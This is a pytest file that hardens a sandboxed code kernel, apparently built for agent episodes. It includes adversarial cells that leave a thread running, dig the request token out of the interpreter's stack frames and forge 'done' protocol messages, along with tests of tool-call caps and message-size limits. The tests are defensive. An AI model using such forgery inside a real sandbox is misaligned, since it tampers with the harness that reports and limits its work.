    """A cell that leaves a thread behind to end the next cell: once the kernel has taken that cell, the thread sends
    a "done" for it, carrying the token dug out of the main thread's frames (``dig``) or, guessing, the cell's
    number (what the worker sent before cells got random tokens)."""
    token = (
        "    frame = sys._current_frames()[threading.main_thread().ident]\n"
        "    while (frame.f_locals.get('message') or {}).get('op') != 'run':\n"
        "        frame = frame.f_back\n"
        "    cell = frame.f_locals['message']['cell']\n"
        if dig
        else "    cell = session.cell\n"
    )
    return SESSION + (
        "import json, sys, threading, time\n"
        "def forge(started=session.cell):\n"
        "    while session.cell == started:\n"
        "        time.sleep(0.001)\n"
        + token
        + "    done = json.dumps({'op': 'done', 'error': None, 'printed': 0, 'cell': cell})\n"
        "    session.outbound.write(done.encode() + b'\\n')\n"
        "    session.outbound.flush()\n"
        "threading.Thread(target=forge, daemon=True).start()\n"
    )


def test_a_done_guessed_for_the_next_cell_is_refused_at_once(kernel: Kernel, tools: Tools) -> None:
    assert clean(kernel.run(next_cell_forger(dig=False))) == ""
    result = kernel.run("import time\ntime.sleep(1)\nprint('cell two')")
    violated(result, "ended a cell it was not running")
    assert result.output == "" and result.duration_ms < 800  # at once, not when the cell ends
    runs_normally(kernel, tools)


def test_a_done_forged_for_the_next_cell_never_shifts_its_output(kernel: Kernel, tools: Tools) -> None:
    # With the token dug out, the thread does end the next cell early, as code in that cell could; the cell's real
    # end is then a violation at the start of the one after, which shows none of the ended cell's output
    assert clean(kernel.run(next_cell_forger(dig=True))) == ""
    early = kernel.run("import time\ntime.sleep(0.3)\nprint('cell two')")
    assert clean(early) == "" and early.duration_ms < 250
    time.sleep(0.5)  # cell two goes on in the kernel, prints, and sends its real "done"
    late = kernel.run("print('cell three')")
    violated(late, "outside any request")
    assert late.output == ""
    runs_normally(kernel, tools)


def test_a_forged_done_does_not_shift_the_next_cells_result(kernel: Kernel, tools: Tools) -> None:
    # The forging cell goes on after its forged "done": its real "done" arrives while the next cell runs. The next
    # cell must end as a violation or with its own result, never with the forging cell's.
    done = b'{"op": "done", "error": null, "printed": 0}\n'
    kernel.run(forge(done) + "import time\ntime.sleep(0.5)\nprint('from the forging cell')")
    result = kernel.run("print(echo('next cell'))")
    assert "from the forging cell" not in result.output, result
    if result.violation is None:
        assert clean(result) == "next cell\n"
    runs_normally(kernel, tools)


# -- caps on what crosses the boundary


def test_tool_calls_per_cell_are_capped(kernel: Kernel, tools: Tools) -> None:
    result = kernel.run("for i in range(10_000):\n    echo(i)\nprint('all done')")
    violated(result, "calls_per_cell")
    assert "all done" not in result.output
    assert len(tools.calls) == kernel.sandbox.calls_per_cell == 256
    runs_normally(kernel, tools)


def test_tool_calls_per_episode_are_capped(tools: Tools) -> None:
    with open_kernel(tools, sandbox=SandboxConfig(calls_per_episode=5)) as kernel:
        assert clean(kernel.run("for i in range(3):\n    echo(i)")) == ""
        violated(kernel.run("for i in range(3):\n    echo(i)"), "calls_per_episode")
        assert len(tools.calls) == 5
        # The episode's budget stays spent across the restart; code without tool calls still runs.
        assert clean(kernel.run("print(6 * 7)")) == "42\n"
        violated(kernel.run("echo(1)"), "calls_per_episode")
        assert len(tools.calls) == 5
    with open_kernel(tools) as fresh:  # the next episode on this worker starts clean
        runs_normally(fresh, tools)


def test_an_oversized_solution_is_refused(kernel: Kernel, tools: Tools) -> None:
    assert clean(kernel.run("solution = 'x' * 150_000_000")) == ""
    with pytest.raises(SandboxViolation, match="message size"):
        kernel.get("solution")
    runs_normally(kernel, tools)
    assert kernel.get("rows") == (True, [["alice", 7]])


# -- temporary folders


def _kernel_folders(pid: int) -> set[str]:
    return set(glob.glob(os.path.join(tempfile.gettempdir(), f"undertow-kernel-{pid}-*")))


def test_namespaces_leave_no_folder(tools: Tools) -> None:
    before = _kernel_folders(os.getpid())
    with open_kernel(tools) as kernel:
        runs_normally(kernel, tools)
        assert _kernel_folders(os.getpid()) == before
    assert _kernel_folders(os.getpid()) == before


def test_folders_of_dead_workers_are_swept(tmp_path: Path) -> None:
    dead = subprocess.Popen(["true"])
    dead.wait()
    with pytest.raises(ProcessLookupError):
        os.kill(dead.pid, 0)
    stale = Path(tempfile.mkdtemp(prefix=f"undertow-kernel-{dead.pid}-"))
    (stale / "left.txt").write_text("from a worker that died")
    # A fresh worker process: the sweep runs once per process, at its first rlimits kernel.
    script = (
        "from undertow.env_core.sandbox import Kernel, ToolReply\n"
        "kernel = Kernel([], lambda name, arguments: ToolReply(ok=True), level='rlimits')\n"
        "result = kernel.run('print(6 * 7)')\n"
        "kernel.close()\n"
        "print(result.output.strip())\n"
    )
    try:
        done = subprocess.run(
            [sys.executable, "-c", script], cwd=REPO, capture_output=True, text=True, timeout=60, check=True
        )
        assert done.stdout.strip() == "42"
        assert not stale.exists()
    finally:
        with contextlib.suppress(FileNotFoundError):
            for child in stale.iterdir():
                child.unlink()
            stale.rmdir()
